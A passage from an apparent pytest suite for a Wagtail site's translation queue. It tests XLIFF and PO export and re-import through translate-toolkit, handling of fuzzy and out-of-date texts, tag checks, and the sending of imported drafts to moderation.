    client = admin_in("en")
    exported = export(client, language="en", page=out_of_date_title.pk, format=kind)
    content = exported.content.decode()
    if kind == "po":
        po = polib.pofile(content)
        for entry in po:
            if "fuzzy" in entry.flags:
                entry.flags.remove("fuzzy")  # the translator's tool: "this is right"
        filled = str(po)
    else:
        filled = fill_xliff(content, {"body/h-1/text": "Who we are"})

    upload(client, filled, name=f"t.{kind}")

    assert states_of(out_of_date_title)["body/h-1/text"] == TranslationState.DONE


@pytest.mark.parametrize("kind", ["xliff", "po"])
def test_an_out_of_date_text_left_unfinished_in_the_file_stays_out_of_date(
    admin_in, out_of_date_title, kind
):
    client = admin_in("es")
    content = export(client, language="en", page=out_of_date_title.pk, format=kind)
    content = content.content.decode()
    if kind == "xliff":
        content = fill_xliff(content, {"body/h-1/text": "Who we are"}, state="initial")

    response = upload(client, content, name=f"t.{kind}")

    assert states_of(out_of_date_title)["body/h-1/text"] == TranslationState.OUT_OF_DATE
    assert "Marcado como no terminado en el archivo" in text(parse(response))


@pytest.mark.parametrize("kind", ["xliff", "po"])
def test_a_file_confirms_a_translation_identical_to_the_spanish(admin_in, home, kind):
    body = [{"type": "heading", "id": "h-1", "value": {"text": "Cookies", "level": "h2"}}]
    page = StandardPageFactory(parent=home, body_es=body, body_en=copy.deepcopy(body))
    page.save_revision().publish()
    states.refresh_page(page)
    assert states_of(page)["body/h-1/text"] == TranslationState.MISSING
    client = admin_in("en")
    exported = export(client, language="en", page=page.pk, format=kind).content.decode()

    filled = (fill_xliff if kind == "xliff" else fill_po)(exported, {"body/h-1/text": "Cookies"})
    upload(client, filled, name=f"t.{kind}")

    assert states_of(page)["body/h-1/text"] == TranslationState.DONE


def test_an_xliff_file_has_unique_unit_ids_and_a_po_file_full_headers(admin_in, about, home):
    other = StandardPageFactory(parent=home, title_es="Otra", title_en="")
    other.save_revision().publish()
    states.refresh_page(other)
    client = admin_in("en")

    xliff = export(client, language="en", format="xliff", state="done")
    po = polib.pofile(export(client, language="en", format="po", state="done").content.decode())

    ids = [unit.get("id") for unit in ET.fromstring(xliff.content).iter(f"{X}unit")]  # noqa: S314
    assert len(ids) == len(set(ids)) >= 2
    for header in ("PO-Revision-Date", "Last-Translator", "Language-Team", "Language"):
        assert po.metadata[header], header
    assert po.metadata["Last-Translator"].startswith("admin-en")


def translated_by_a_tool(text):
    """What a translator gives back for each Spanish text in these tests."""
    words = {
        "Quiénes somos": "Who we are",
        "Lea la ": "Read the Quito ",
        "declaración": "declaration",
    }
    return words.get(text, "." if text == " de Quito." else text)


def test_an_xliff_file_round_trips_through_translate_toolkit(admin_in, about, tmp_path):
    from translate.storage import xliff2

    client = admin_in("en")
    path = tmp_path / "acerca-de.xlf"
    path.write_bytes(export(client, language="en", page=about.pk, format="xliff").content)
    store = read_xliff2(path)
    assert isinstance(store, xliff2.Xliff2File)
    for unit in store.units:
        rich = copy.deepcopy(unit.rich_source)
        stack = list(rich)
        while stack:
            element = stack.pop()
            for index, sub in enumerate(element.sub):
                if isinstance(sub, str):
                    element.sub[index] = translated_by_a_tool(sub)
                else:
                    stack.append(sub)
        unit.rich_target = rich
        unit.marktranslated()
    path.write_bytes(bytes(store))

    upload(client, path.read_bytes(), name="acerca-de.xlf")

    body = latest_body_en(about)
    assert body["h-1"]["text"] == "Who we are"
    assert body["p-1"] == STORED_P1


def test_a_po_file_round_trips_through_translate_toolkit(admin_in, about, tmp_path):
    from translate.storage import factory

    client = admin_in("en")
    path = tmp_path / "acerca-de.po"
    path.write_bytes(export(client, language="en", page=about.pk, format="po").content)
    store = factory.getobject(str(path))
    for unit in store.units:
        if unit.source == "Quiénes somos":
            unit.target = "Who we are"
        elif unit.source.startswith("Lea la "):
            unit.target = "Read the Quito <a1>declaration</a1>."
    path.write_bytes(bytes(store))

    upload(client, path.read_bytes(), name="acerca-de.po")

    body = latest_body_en(about)
    assert (body["h-1"]["text"], body["p-1"]) == ("Who we are", STORED_P1)


# translate-toolkit's factory opens every ".xlf" (and ".xliff", or XLIFF content without a name)
# with its XLIFF 1.2 reader, which refuses XLIFF 2.0: the export also offers XLIFF 1.2, which the
# factory reads as it is, and the import reads it back.


def test_an_xliff_1_2_file_is_read_by_translate_toolkits_factory_and_imported_back(
    admin_in, about, tmp_path
):
    from translate.storage import factory, xliff

    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff12")
    name = re.search(r'filename="([^"]+)"', exported["Content-Disposition"]).group(1)
    path = tmp_path / name
    path.write_bytes(exported.content)
    store = factory.getobject(str(path))
    assert isinstance(store, xliff.Xliff1File)
    for unit in store.units:
        rich = copy.deepcopy(unit.rich_source)
        stack = list(rich)
        while stack:
            element = stack.pop()
            for index, sub in enumerate(element.sub):
                if isinstance(sub, str):
                    element.sub[index] = translated_by_a_tool(sub)
                else:
                    stack.append(sub)
        unit.rich_target = rich
        unit.marktranslated()
    path.write_bytes(bytes(store))

    upload(client, path.read_bytes(), name=name)

    body = latest_body_en(about)
    assert body["h-1"]["text"] == "Who we are"
    assert body["p-1"] == STORED_P1


def test_an_xliff_1_2_export_is_named_and_typed_as_xliff(admin_in, about):
    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff12")

    assert exported["Content-Type"].startswith("application/x-xliff+xml")
    assert re.search(r'filename="[^"]+\.xliff12\.xlf"', exported["Content-Disposition"])


def test_an_xliff_1_2_file_has_unique_unit_ids(admin_in, about, home):
    other = StandardPageFactory(parent=home, title_es="Otra", title_en="")
    other.save_revision().publish()
    states.refresh_page(other)

    exported = export(admin_in("en"), language="en", format="xliff12", state="done")

    root = ET.fromstring(exported.content)  # noqa: S314
    ids = [unit.get("id") for unit in root.iter(f"{{{XLIFF_1_2_NS}}}trans-unit")]
    assert len(ids) == len(set(ids)) >= 2


def test_an_out_of_date_text_is_fuzzy_in_translate_toolkit_and_a_done_one_is_not(
    admin_in, out_of_date_title, tmp_path
):
    from translate.storage import factory

    path = tmp_path / "acerca-de.xlf"
    client = admin_in("en")
    exported = export(client, language="en", page=out_of_date_title.pk, format="xliff12")
    path.write_bytes(exported.content)
    (out_of_date,) = [u for u in factory.getobject(str(path)).units if u.source == "Nosotros"]
    path.write_bytes(
        export(
            client, language="en", page=out_of_date_title.pk, format="xliff12", state="done"
        ).content
    )
    (done,) = [u for u in factory.getobject(str(path)).units if u.source == "Acerca de"]

    assert (out_of_date.target, out_of_date.isfuzzy()) == ("Who we are", True)
    assert (done.target, done.isfuzzy(), done.isapproved()) == ("About", False, True)


@pytest.mark.parametrize(
    ("language", "message"),
    [("es", "Marcado como no terminado en el archivo"), ("en", "Marked as unfinished in the file")],
)
def test_a_text_left_fuzzy_in_an_xliff_1_2_file_is_not_imported(
    admin_in, out_of_date_title, tmp_path, language, message
):
    from translate.storage import factory

    client = admin_in(language)
    path = tmp_path / "acerca-de.xlf"
    exported = export(client, language="en", page=out_of_date_title.pk, format="xliff12")
    path.write_bytes(exported.content)
    store = factory.getobject(str(path))
    for unit in store.units:
        if unit.source == "Nosotros":
            unit.target = "About us"
            unit.markfuzzy(True)
    path.write_bytes(bytes(store))

    response = upload(client, path.read_bytes(), name="acerca-de.xlf")

    assert states_of(out_of_date_title)["body/h-1/text"] == TranslationState.OUT_OF_DATE
    assert message in text(parse(response))


def test_an_xliff_1_2_target_with_codes_that_are_not_the_sources_is_refused(admin_in, about):
    client = admin_in("en")
    content = export(client, language="en", page=about.pk, format="xliff12").content.decode()
    root = ET.fromstring(content)  # noqa: S314
    for unit in root.iter(f"{{{XLIFF_1_2_NS}}}trans-unit"):
        if unit.get("resname") == "body/p-1#1":
            target = ET.SubElement(unit, f"{{{XLIFF_1_2_NS}}}target", {"state": "translated"})
            target.text = "Read the Quito declaration."  # the link's <g> left out
            unit.set("approved", "yes")

    response = upload(client, ET.tostring(root, encoding="unicode"))

    assert "Keep each tag of the source text exactly once" in text(parse(response))
    assert about.revisions.count() == 1


def import_as_translator(client, translator, admin_in, page, language):
    exported = export(admin_in("en"), language="en", page=page.pk, format="po").content.decode()
    client.logout()
    client.force_login(speaking(translator, language))
    return upload(client, fill_po(exported, ENGLISH), name="t.po")


@pytest.mark.parametrize(
    ("language", "button", "sent"),
    [
        ("es", "Enviar todo a moderación", "1 página enviada a moderación"),
        ("en", "Send all to moderation", "1 page sent to moderation"),
    ],
)
def test_the_report_sends_every_new_draft_to_moderation_and_moderators_see_them(
    client, admin_in, translator, staff, about, language, button, sent
):
    report = parse(import_as_translator(client, translator, admin_in, about, language))
    action = reverse("translation_queue:submit_drafts")
    form = report.select_one(f"form[action='{action}']")
    assert button in text(form)
    pages = [field["value"] for field in form.select("input[name=page]")]

    response = client.post(reverse("translation_queue:submit_drafts"), {"page": pages}, follow=True)

    assert sent in text(parse(response))
    about.refresh_from_db()
    assert about.workflow_in_progress
    client.logout()
    client.force_login(speaking(staff("moderadora", "Moderators"), language))
    # Each moderator reads the page's title in the admin's language.
    title = "Acerca de" if language == "es" else "About"
    assert title in text(parse(client.get(reverse("wagtailadmin_home"))))


@pytest.mark.parametrize(
    ("language", "reason"),
    [
        ("es", "Usted envió esta página a moderación"),
        ("en", "You submitted this page for moderation"),
    ],
)
def test_importing_into_a_page_the_translator_sent_to_moderation_says_how_to_go_on(
    client, admin_in, translator, about, language, reason
):
    import_as_translator(client, translator, admin_in, about, language)
    client.post(reverse("translation_queue:submit_drafts"), {"page": [about.pk]})

    response = import_as_translator(client, translator, admin_in, about, language)

    page = text(parse(response))
    assert reason in page
    assert "Otra persona ha bloqueado" not in page and "locked by someone else" not in page


def test_send_all_to_moderation_sends_only_the_users_own_drafts(
    client, admin_in, translator, home, about
):
    """A page id added to the form (a page the user did not import into) is not submitted."""
    other = StandardPageFactory(parent=home, title_es="Otra", title_en="Other", slug_en="other")
    other.save_revision().publish()
    import_as_translator(client, translator, admin_in, about, "es")

    client.post(reverse("translation_queue:submit_drafts"), {"page": [about.pk, other.pk]})

    about.refresh_from_db()
    other.refresh_from_db()
    assert about.workflow_in_progress
    assert not other.workflow_in_progress


def test_send_all_to_moderation_ignores_ids_no_page_can_have(client, admin_in, translator, about):
    import_as_translator(client, translator, admin_in, about, "es")
    response = client.post(
        reverse("translation_queue:submit_drafts"), {"page": [about.pk, "9" * 30, "²"]}
    )
    assert response.status_code == 302
    about.refresh_from_db()
    assert about.workflow_in_progress
